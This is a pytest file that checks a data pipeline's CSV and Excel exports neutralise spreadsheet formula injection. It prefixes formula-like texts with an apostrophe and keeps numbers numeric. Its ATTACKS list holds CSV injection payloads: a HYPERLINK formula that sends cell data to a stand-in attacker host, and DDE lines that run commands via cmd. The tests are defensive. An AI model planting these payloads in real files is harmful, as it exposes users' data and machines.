"""CSV exports neutralise texts a spreadsheet would run as a formula (OWASP: a quote before =, +, -, @, tab,
CR), in every CSV file; numbers stay numbers; the audit's export check agrees; the workbook keeps texts."""

from __future__ import annotations

import shutil

import openpyxl
import pandas as pd
import pytest

from pipelines.lib.duck import connect
from pipelines.lib.release import exports as ex
from pipelines.lib.release.export_check import export_problems
from pipelines.lib.release.german_csv import FORMULA_STARTS, neutralise_frame
from pipelines.lib.release.schema import published_tables
from pipelines.lib.workspace import Workspace

ATTACKS = ['=HYPERLINK("http://angreifer.example/?d="&A1;"Klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def text_column(t) -> str | None:
    """A text column of ``t`` to plant a formula in: a free text if it has one, else a key (the planted text is
    new, so keys stay unique); never a status (the audit reads it) nor the run id."""
    texts = [c for c in t.columns if c.type == "VARCHAR" and not c.values and c.name != "run_id"]
    return next((c.name for c in sorted(texts, key=lambda c: c.key)), None)


@pytest.fixture(scope="module")
def poisoned(tiny_published, tmp_path_factory):
    """A copy of the tiny release's mart with a formula-like text in every table, and its exports."""
    root = tmp_path_factory.mktemp("poisoned")
    mart = root / "sozialmonitor.duckdb"
    shutil.copy(Workspace(tiny_published).mart, mart)
    planted: dict[str, tuple[str, str]] = {}
    with connect(mart) as con:
        for n, t in enumerate(published_tables()):
            column = text_column(t)
            if column is None or not con.execute(f"select count(*) from {t.name}").fetchone()[0]:
                continue
            attack = ATTACKS[n % len(ATTACKS)]
            con.execute(f"update {t.name} set {column} = ? where rowid = (select min(rowid) from {t.name})", [attack])
            planted[t.name] = (column, attack)
        con.execute("checkpoint")
    out = root / "exports"
    ex.write_exports(mart, out)
    return mart, out, planted


def csv_frame(path) -> pd.DataFrame:
    return pd.read_csv(path, sep=";", dtype=str, keep_default_na=False, encoding="utf-8-sig")


def test_every_csv_export_carries_a_planted_formula_neutralised(poisoned):
    mart, out, planted = poisoned
    with connect(mart, read_only=True) as con:
        filled = {t.name for t in published_tables() if text_column(t)
                  and con.execute(f"select count(*) from {t.name}").fetchone()[0]}
    assert set(planted) == filled and {"districts", "offers", "indicators", "data_dictionary",
                                       "indicator_values"} <= filled
    for name, (column, attack) in planted.items():
        frame = csv_frame(ex.csv_path(out, name))
        assert ("'" + attack) in set(frame[column]), (name, column)
        assert attack not in set(frame[column]), (name, column)


def test_no_text_cell_of_any_csv_starts_like_a_formula(poisoned):
    _mart, out, _planted = poisoned
    for t in published_tables():
        frame = csv_frame(ex.csv_path(out, t.name))
        for c in t.columns:
            if c.type == "VARCHAR" and c.name in frame:
                bad = frame[c.name][frame[c.name].str.startswith(FORMULA_STARTS)]
                assert bad.empty, (t.name, c.name, bad.head().tolist())


@pytest.mark.parametrize(("name", "column"), [("indicator_benchmarks", "change"), ("allocation", "difference"),
                                             ("need_index_sensitivity", "weight_change_percent")])
def test_negative_numbers_stay_numbers(poisoned, name, column):
    mart, out, _ = poisoned
    with connect(mart, read_only=True) as con:
        negative = con.execute(f"select count(*) from {name} where {column} < 0").fetchone()[0]
    assert negative > 0  # the tiny city has them (DOUBLE, BIGINT, INTEGER)
    frame = csv_frame(ex.csv_path(out, name))
    numbers = frame[column][frame[column] != ""]
    assert numbers.str.startswith("-").sum() == negative
    assert not numbers.str.startswith("'").any()
    assert numbers.str.replace(",", ".").astype(float).notna().all()


def test_the_export_check_accepts_neutralised_and_catches_raw_formulas(poisoned, tmp_path):
    mart, out, planted = poisoned
    assert export_problems(mart, out) == []
    copy = tmp_path / "exports"
    shutil.copytree(out, copy)
    path = ex.csv_path(copy, "districts")
    _column, attack = planted["districts"]
    data, neutral = path.read_bytes(), ("'" + attack).encode("utf-8")
    assert data.count(neutral) == 1
    path.write_bytes(data.replace(neutral, attack.encode("utf-8")))  # an export as it was before the fix
    problems = export_problems(mart, copy)
    assert any("csv/districts.csv differs from the mart in 2 rows" in p for p in problems), problems


def test_the_data_dictionary_says_so(poisoned):
    mart, _out, _ = poisoned
    with connect(mart, read_only=True) as con:
        description = con.execute("select distinct table_description from data_dictionary "
                                  "where table_name = 'data_dictionary'").fetchone()[0]
    assert "Apostroph" in description and "Formel" in description


def test_the_workbook_keeps_formula_like_names_as_text(poisoned):
    _mart, out, planted = poisoned
    book = openpyxl.load_workbook(out / ex.WORKBOOK_NAME)
    column, attack = planted["districts"]
    sheet = book["districts"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
    planted_cells = [c for c in cells if c.value == attack]
    assert planted_cells and all(c.data_type == "s" for c in planted_cells)


def test_private_csv_reports_are_neutralised_too():
    frame = pd.DataFrame({"district": ["=1+1", "Mitte", None], "rate": [-1.5, 2.0, None]})
    out = neutralise_frame(frame)
    assert out["district"].tolist()[:2] == ["'=1+1", "Mitte"] and out["rate"].tolist()[:2] == [-1.5, 2.0]
